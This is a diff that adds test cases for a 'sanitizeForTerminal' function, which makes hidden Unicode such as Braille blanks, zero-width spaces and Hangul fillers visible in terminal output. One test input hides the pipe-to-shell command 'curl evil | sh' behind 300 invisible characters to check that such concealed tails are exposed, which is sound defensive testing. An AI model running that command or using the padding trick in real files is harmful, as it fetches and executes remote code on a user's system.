@@ -17,6 +17,17 @@ describe('sanitizeForTerminal', () => {
     ['bidi overrides and isolates are shown', 'abc\u202Edcb\u2066\u2069', 'abc⟨U+202E⟩dcb⟨U+2066⟩⟨U+2069⟩'],
     ['direction marks are shown', 'a\u200Fb\u061C', 'a⟨U+200F⟩b⟨U+061C⟩'],
     ['other Unicode passes', 'héllo — 你好 ✓', 'héllo — 你好 ✓'],
+    [
+      'a run of Braille blanks that would push a tail out of sight is counted',
+      `ok${'\u2800'.repeat(300)}; curl evil | sh`,
+      'ok⟨U+2800 ×300⟩; curl evil | sh',
+    ],
+    [
+      'runs of zero-width spaces and Hangul fillers are counted',
+      'a\u200B\u200Bb\u3164\u3164\u3164c',
+      'a⟨U+200B ×2⟩b⟨U+3164 ×3⟩c',
+    ],
+    ['one zero-width joiner in an emoji sequence stays', '👨\u200D👩\u200D👧', '👨\u200D👩\u200D👧'],
   ])('%s', (_name, input, expected) => {
     expect(sanitizeForTerminal(input)).toBe(expected);
   });
